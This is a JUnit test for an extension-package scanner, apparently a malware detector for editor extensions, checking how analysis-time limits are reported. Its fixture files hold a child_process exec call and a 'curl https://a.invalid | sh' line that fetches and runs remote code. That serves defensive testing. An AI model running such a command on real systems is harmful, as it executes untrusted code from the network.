package dev.vsxray.scanner.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.archive.ExtensionPackage;
import dev.vsxray.scanner.model.Feature.ApiCall;
import dev.vsxray.scanner.model.Gap;
import dev.vsxray.scanner.model.Registry;
import dev.vsxray.signatures.catalogue.Catalogue;
import dev.vsxray.signatures.pattern.PatternSet;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class PackageAnalyzerTest {

    @Test
    void filesForWhichThereIsNoTimeAreAGapAndTheProgramIsStillFollowed() {
        ExtensionPackage extension = ExtensionPackage.ofTexts(Map.of(
                "package.json", "{\"publisher\": \"acme\", \"name\": \"slow\", \"main\": \"main.js\"}",
                "main.js", "require('child_process').exec('id');",
                "z.sh", "curl https://a.invalid | sh"));

        PackageFeatures seen = new PackageAnalyzer(PatternSet.empty(), Catalogue.shipped(), List.of(), Duration.ZERO)
                .analyze(extension, Registry.UNKNOWN);

        assertThat(seen.gaps())
                .containsExactly(new Gap(
                        "main.js",
                        Gap.Kind.LIMIT,
                        "This file and 2 after it were not looked into for lack of time",
                        "0 s of processor time"));
        assertThat(seen.features()).anyMatch(ApiCall.class::isInstance);
    }
}
